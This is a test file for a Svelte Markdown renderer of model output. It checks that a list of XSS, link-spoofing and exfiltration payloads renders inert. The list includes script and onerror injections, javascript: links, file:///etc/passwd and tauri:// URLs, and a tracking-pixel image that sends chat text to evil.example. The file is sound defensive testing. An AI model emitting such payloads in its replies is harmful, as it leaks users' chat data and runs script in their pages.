// @vitest-environment jsdom
import { fireEvent, render, screen, waitFor } from '@testing-library/svelte';
import { beforeEach, describe, expect, test, vi } from 'vitest';
import Markdown from './Markdown.svelte';

const openLink = vi.fn();
const copy = vi.fn(async () => true);
beforeEach(() => vi.clearAllMocks());

const show = (text: string, open = false) =>
  render(Markdown, { props: { text, open, openLink, copy } }).container;

/** Everything that could load or run something when it is in a page. */
const LOADERS =
  'script, iframe, frame, object, embed, link, meta, base, style, form, video, audio, source, track, svg image, svg use, a[href], area, portal, template, input:not([type=checkbox]), [src]:not(img), [srcset], [poster], [background], [ping], [formaction], [style]';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src="https://evil.example/x.png" onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<svg onload=alert(1)><use href="https://evil.example/x.svg#a"></use></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<form action="https://evil.example"><input name=q autofocus></form>',
  '<video src=https://evil.example/v.mp4 autoplay></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
  '<div style="background:url(https://evil.example/b.png);position:fixed;inset:0">Settings</div>',
  '![a](https://evil.example/pixel.gif?q=the+chat)',
  '![a](//evil.example/pixel.gif)',
  '![a](http://evil.example/pixel.gif "t")',
  '![a][r]\n\n[r]: https://evil.example/pixel.gif',
  '![a](data:text/html,<script>alert(1)</script>)',
  '![a](data:image/svg+xml;base64,PHN2Zy8+)',
  '![a](javascript:alert(1))',
  '![a](file:///etc/passwd)',
  '![a](blob:https://evil.example/1)',
  '![a](tauri://localhost/index.html)',
  '![a](http://ipc.localhost/quit)',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\u0000script:alert(1))',
  '[a](data:text/html,x)',
  '[a](vbscript:x)',
  '[a](file:///etc/passwd)',
  '[a](tauri://localhost/)',
  '[a]( javascript:alert(1))',
  '<javascript:alert(1)>',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '[![i](https://evil.example/i.png)](https://evil.example)',
  '| a |\n|---|\n| <img src=https://evil.example/x onerror=alert(1)> |',
  '- [x] <input autofocus onfocus=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  'a[^1]\n\n[^1]: <img src=https://evil.example/x>',
  '# <script>alert(1)</script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x-custom onclick=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('what a model writes', () => {
  for (const text of HOSTILE) {
    test(`makes nothing that loads or runs: ${text.slice(0, 60)}`, () => {
      for (const open of [true, false]) {
        const page = show(text, open);
        expect([...page.querySelectorAll(LOADERS)].map((element) => element.outerHTML)).toEqual([]);
        for (const picture of page.querySelectorAll('img')) {
          expect(picture.getAttribute('src')).toMatch(/^data:image\/(png|jpeg|gif|webp|avif);base64,/);
        }
        for (const element of page.querySelectorAll('*')) {
          const handlers = element.getAttributeNames().filter((name) => name.startsWith('on'));
          expect(handlers).toEqual([]);
          expect(element.id).not.toMatch(/^(?!.*note-)./);
        }
      }
    });
  }

  test('HTML is shown as the text it is', () => {
    expect(show('<b>bold</b> and\n\n<div>block</div>').textContent).toContain('<b>bold</b>');
    expect(show('<div>block</div>').textContent).toContain('<div>block</div>');
  });

  test('a picture within the message is shown', () => {
    const picture = show('![a dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img');
    expect(picture?.alt).toBe('a dot');
  });

  test('a remote picture is named with its host, and opened only when asked to', () => {
    const page = show('![a cat](https://pics.example/cat.png)');
    expect(page.querySelector('img')).toBeNull();
    expect(page.textContent).toContain('a cat');
    expect(page.textContent).toContain('pics.example');
    expect(openLink).not.toHaveBeenCalled();
    page.querySelector('button')?.click();
    expect(openLink).toHaveBeenCalledWith('https://pics.example/cat.png');
  });
});

describe('links', () => {
  test('say their real host and open by a click or Enter, through the app', () => {
    const page = show('[read this](https://docs.example/page)');
    const link = page.querySelector<HTMLElement>('[role=link]');
    expect(link?.textContent).toContain('docs.example');
    link?.click();
    link?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    expect(openLink.mock.calls).toEqual([['https://docs.example/page'], ['https://docs.example/page']]);
  });

  test('cannot name another host than they lead to', () => {
    const text = (source: string) => show(source).textContent ?? '';
    expect(text('[https://bank.example](https://evil.example/)')).toContain('evil.example');
    expect(text('[bank.example](https://bank.example.evil.example/)')).toContain('bank.example.evil.example');
    expect(text('[x](https://bank.example@evil.example/)')).toContain('bank.example@evil.example');
    // A Cyrillic letter that looks Latin is shown by its ASCII form.
    expect(text('[x](https://аpple.example/)')).toContain('xn--');
    expect(text('[x](http://plain.example/)')).toContain('http://plain.example');
  });

  test('that say their host already do not say it twice', () => {
    const count = (source: string) => (show(source).textContent ?? '').split('docs.example').length - 1;
    expect(count('<https://docs.example/a>')).toBe(1);
    expect(count('see https://docs.example/a there')).toBe(1);
    expect(count('[docs.example](https://docs.example/)')).toBe(1);
  });
});

describe('a text that grows', () => {
  test('keeps its elements and a selection in them', async () => {
    const props = { text: 'First.\n\nSecond wor', open: true, openLink, copy };
    const { container, rerender } = render(Markdown, { props });
    const [one, two] = container.querySelectorAll('p');
    const words = two?.querySelector('span')?.firstChild as globalThis.Text;
    const selection = getSelection();
    selection?.setBaseAndExtent(words, 0, words, 6);
    await rerender({ ...props, text: 'First.\n\nSecond words are added **here**' });
    await rerender({ ...props, text: 'First.\n\nSecond words are added **here**\n\nThird.', open: false });
    expect([...container.querySelectorAll('p')].slice(0, 2)).toEqual([one, two]);
    expect(selection?.toString()).toBe('Second');
    expect(container.querySelector('strong')?.textContent).toBe('here');
  });

  test('shows what the whole text would, whatever way it came', async () => {
    const whole =
      '# Title\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```js\nlet a = 1;\n```\n\nend[^1]\n\n[^1]: note';
    const { container, rerender } = render(Markdown, { props: { text: '', open: true, openLink, copy } });
    for (let end = 1; end <= whole.length; end += 3) {
      await rerender({ text: whole.slice(0, end), open: true, openLink, copy });
    }
    await rerender({ text: whole, open: false, openLink, copy });
    const strip = (html: string) => html.replace(/<!--.*?-->|id="[^"]*"|s\d+-note/g, '');
    expect(strip(container.innerHTML)).toBe(strip(show(whole).innerHTML));
  });
});

test('a list and a quotation run the way of their words', () => {
  expect(show('- النقطة الأولى\n- two').querySelector('ul')?.dir).toBe('rtl');
  expect(show('- one\n- النقطة').querySelector('ul')?.dir).toBe('ltr');
});

test('a footnote leads back to where it was gone to from', async () => {
  Element.prototype.scrollIntoView ??= () => {};
  show('One[^a], two[^b] and one again[^a].\n\n[^a]: The first.\n[^b]: The second.');
  const again = screen.getAllByRole('button', { name: 'Footnote 1' })[1];
  if (!again) throw new Error('it is referred to twice');
  await fireEvent.click(again);
  expect(document.activeElement?.textContent).toContain('The first.');
  const [first, second] = screen.getAllByRole('button', { name: 'Back to where it is referred to' });
  if (!first || !second) throw new Error('each has its way back');
  await fireEvent.click(first);
  await waitFor(() => expect(document.activeElement).toBe(again));
  // One that was not gone to leads to its first place.
  await fireEvent.click(second);
  await waitFor(() =>
    expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Footnote 2' })),
  );
});
